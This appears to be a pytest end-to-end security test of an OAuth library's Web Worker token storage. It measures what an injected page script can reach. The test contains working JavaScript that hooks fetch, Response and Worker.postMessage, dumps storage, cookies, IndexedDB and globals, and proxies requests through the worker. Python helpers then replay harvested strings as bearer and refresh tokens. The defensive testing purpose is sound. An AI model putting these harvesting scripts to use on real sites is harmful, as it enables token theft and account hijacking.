"""The lab, E14 for the "Web Worker" architecture: what an injected script can do to the example app
when its tokens live in the package's token worker (Auth(storage="worker"), web/example/worker.html,
Pyodide), in each engine. "Elsewhere" is this test process: an attacker's machine with what the
script found (draft-ietf-oauth-browser-based-apps §5.1: the attacker's moves).

The script does what a script injected after the app started can: it wraps fetch and
Response.prototype.json/text, wraps Worker.prototype.postMessage (so the app's next message hands it
the worker, whose every answer it then reads), and reads sessionStorage, localStorage, IndexedDB,
cookies and window's globals. Every token-shaped string it collected is then tried elsewhere: as a
bearer token at the API, and as a refresh token at the token endpoint. It also posts its own
messages to the app's worker: an API call (the draft's proxy), a call to its own URL, a request for
the tokens. Other storages' E14 rows live in e2e/test_lab_storage.py.
"""

import re
from collections.abc import Callable

import httpx
import pytest
from drivers import Browser
from harness import Demo
from test_package import SHORT_LIFETIME, WORKER_PAGES, last_seq, provider_saw, short_lived, sign_in

pytestmark = pytest.mark.filterwarnings("ignore:setting remote_server_addr:DeprecationWarning")
Observe = Callable[..., None]
__all__ = ["short_lived"]  # the fixture, imported for these tests

SPEC = "draft-ietf-oauth-browser-based-apps §5.1, §8; docs/SECURITY.md C12"

# Installed once the app is signed in; everything the app sends or receives from now on is copied.
INJECT = """async () => {
    const seen = window.__harvest = [];
    const keep = (where, value) => {
        try { seen.push([where, typeof value === "string" ? value : JSON.stringify(value)]); } catch (e) {}
    };
    const originalFetch = window.fetch;
    window.fetch = function (input, init) {
        const headers = init && init.headers ? Object.fromEntries(new Headers(init.headers)) : null;
        keep("fetch", {url: String(input), headers: headers, body: init && init.body ? String(init.body) : null});
        return originalFetch.apply(this, arguments);
    };
    for (const name of ["json", "text"]) {
        const original = Response.prototype[name];
        Response.prototype[name] = async function () {
            const value = await original.apply(this, arguments);
            keep("Response." + name, value);
            return value;
        };
    }
    window.__workers = [];
    const post = Worker.prototype.postMessage;
    Worker.prototype.postMessage = function (message) {
        if (!window.__workers.includes(this)) {
            window.__workers.push(this);
            this.addEventListener("message", (event) => keep("worker answers", event.data));
        }
        keep("page→worker", message);
        return post.apply(this, arguments);
    };
    return true;
}"""

# Everything else a script in the page can read.
READ_EVERYTHING = """async () => {
    const out = window.__harvest.slice();
    for (const [name, store] of [["sessionStorage", sessionStorage], ["localStorage", localStorage]]) {
        for (let i = 0; i < store.length; i++) out.push([name, store.key(i) + "=" + store.getItem(store.key(i))]);
        if (!store.length) out.push([name, ""]);
    }
    out.push(["cookie", document.cookie]);
    const request = (r) => new Promise((ok, ko) => {
        r.onsuccess = () => ok(r.result);
        r.onerror = () => ko(r.error);
    });
    const databases = indexedDB.databases ? await indexedDB.databases() : [];
    for (const info of databases) {
        const db = await request(indexedDB.open(info.name));
        for (const store of Array.from(db.objectStoreNames)) {
            const values = await request(db.transaction(store).objectStore(store).getAll());
            out.push(["IndexedDB", info.name + "/" + store + " " + JSON.stringify(values)]);
        }
        db.close();
    }
    for (const name of Object.getOwnPropertyNames(window)) {
        let value;
        try { value = window[name]; } catch (e) { continue; }
        if (typeof value === "string") out.push(["window", name + "=" + value]);
        else if (value && typeof value === "object" && Object.getPrototypeOf(value) === Object.prototype) {
            try { out.push(["window", name + "=" + JSON.stringify(value)]); } catch (e) {}
        }
    }
    return out;
}"""

# The script's own messages to the app's worker (reached through the wrapped postMessage).
USE_THE_WORKER = """async (urls) => {
    const worker = window.__workers[0];
    if (!worker) return {reached: false};
    const ask = (message) => new Promise((ok) => {
        const id = 900000 + Math.floor(Math.random() * 90000);
        const listener = (event) => {
            let answer;
            try { answer = JSON.parse(event.data); } catch (e) { return; }
            if (answer.id === id) { worker.removeEventListener("message", listener); ok(answer); }
        };
        worker.addEventListener("message", listener);
        worker.postMessage(JSON.stringify(Object.assign({id: id}, message)));
        setTimeout(() => ok(null), 10000);
    });
    const call = (url) => ({type: "fetch", method: "GET", url: url, headers: {}, body: null});
    return {
        reached: true,
        api: await ask(call(urls.api)),
        elsewhere: await ask(call(urls.attacker)),
        export: await ask({type: "tokens"}),
    };
}"""

# RFC 6750 §2.1 b64token: anything a token could be.
TOKEN_SHAPED = re.compile(r"[A-Za-z0-9\-._~+/]{20,}=*")


def candidates(harvest: list[list[str]]) -> list[str]:
    found: dict[str, None] = {}
    for _, text in harvest:
        for match in TOKEN_SHAPED.findall(text or ""):
            found[match] = None
    return list(found)


def works_as_access_token(api: str, values: list[str]) -> list[str]:
    """RFC 6750 §2.1: the values the API accepts as a bearer token (from outside the browser)."""
    with httpx.Client(timeout=10) as client:
        return [v for v in values if client.get(api, headers={"Authorization": f"Bearer {v}"}).status_code == 200]


def works_as_refresh_token(token_url: str, values: list[str]) -> list[str]:
    """RFC 6749 §6: the values the token endpoint accepts as this client's refresh token."""
    with httpx.Client(timeout=10) as client:
        form = {"grant_type": "refresh_token", "client_id": "spa-demo"}
        return [v for v in values if client.post(token_url, data={**form, "refresh_token": v}).status_code == 200]


def test_an_injected_script_cannot_read_the_workers_tokens_but_can_use_the_worker_as_a_proxy(
    browser_page: Browser, short_lived: Demo, observe: Observe
) -> None:
    demo = short_lived
    browser_page.base_url = demo.spa
    api, token_url = demo.issuer + "/api/me", demo.issuer + "/token"
    sign_in(browser_page, demo.spa + WORKER_PAGES["py"])
    assert browser_page.evaluate_async(INJECT) is True
    # The app goes on: an API call (its message hands the script the worker), then a refresh.
    before = last_seq(demo)
    browser_page.click("#call-api")
    browser_page.wait_text("#out", '"sub": "alice"')

    def refreshed() -> bool:
        return any(e["status"] == 200 for e in provider_saw(demo, "/token", before))

    browser_page.wait_for(refreshed, "a refresh by the worker", timeout=2 * SHORT_LIFETIME)
    browser_page.click("#call-api")  # and an API call with the refreshed token
    browser_page.wait_for(lambda: len(provider_saw(demo, "/api/me", before)) == 2, "the second API call")
    harvest = browser_page.evaluate_async(READ_EVERYTHING)
    used = browser_page.evaluate_async(USE_THE_WORKER, {"api": api, "attacker": demo.spa + "/collect"})
    values = candidates(harvest)
    access = works_as_access_token(api, values)
    refresh = works_as_refresh_token(token_url, values)
    counts: dict[str, int] = {}
    for where, _ in harvest:
        counts[where] = counts.get(where, 0) + 1
    read = ", ".join(f"{where} {count}" for where, count in sorted(counts.items()))
    summary = f"values read ({read}); {len(values)} token-shaped strings among them, tried elsewhere"

    observe(
        "E14",
        "Web Worker: an injected script reads the access token",
        f"{summary}: {len(access)} accepted by the API as a bearer token",
        "stopped: the page never holds the access token (the worker answers with a stand-in and its at_hash); "
        "wrapped fetch and Response see no Authorization header, storage and globals hold none",
        SPEC,
        not access,
        move="read the access token",
        architecture="Web Worker",
        attacker="succeeded" if access else "stopped",
    )
    observe(
        "E14",
        "Web Worker: an injected script reads the refresh token",
        f"{summary}, its answers to the app's refresh included: {len(refresh)} accepted as a refresh token",
        "stopped: the worker sends the refresh itself and answers the page with a stand-in",
        SPEC,
        not refresh,
        move="read the refresh token",
        architecture="Web Worker",
        attacker="succeeded" if refresh else "stopped",
    )
    api_answer = (used.get("api") or {}) if used.get("reached") else {}
    proxied = api_answer.get("status") == 200 and '"alice"' in str(api_answer.get("body"))
    refused_elsewhere = (used.get("elsewhere") or {}).get("refused")
    refused_export = (used.get("export") or {}).get("refused")
    observe(
        "E14",
        "Web Worker: an injected script proxies an API call through the app's worker",
        f"wrapping Worker.prototype.postMessage handed the script the app's worker: {used.get('reached')}; "
        f"its own API call through it → HTTP {api_answer.get('status')}"
        f"{' (Alice’s data)' if proxied else ''}; to its own URL → refused: {refused_elsewhere}; "
        f"asking for the tokens → refused: {refused_export}",
        "succeeded while the page is open (the draft: a worker is still a proxy for a script in the page), "
        "but only to the allow-listed origins: the worker refuses the script's URL and has no message that "
        "returns a token",
        SPEC,
        proxied and refused_elsewhere == "origin_not_allowed" and refused_export == "bad_message",
        move="proxy an API call through the page",
        architecture="Web Worker",
        attacker="succeeded" if proxied else "stopped",
    )
    assert not access, access and "the access token reached the page"
    assert not refresh, refresh and "the refresh token reached the page"
    assert refused_elsewhere == "origin_not_allowed", used
    assert refused_export == "bad_message", used
    # The app's own session survived all this.
    after = last_seq(demo)
    browser_page.click("#call-api")
    browser_page.wait_for(lambda: bool(provider_saw(demo, "/api/me", after)), "the app's next API call")
    assert [e["status"] for e in provider_saw(demo, "/api/me", after)] == [200]
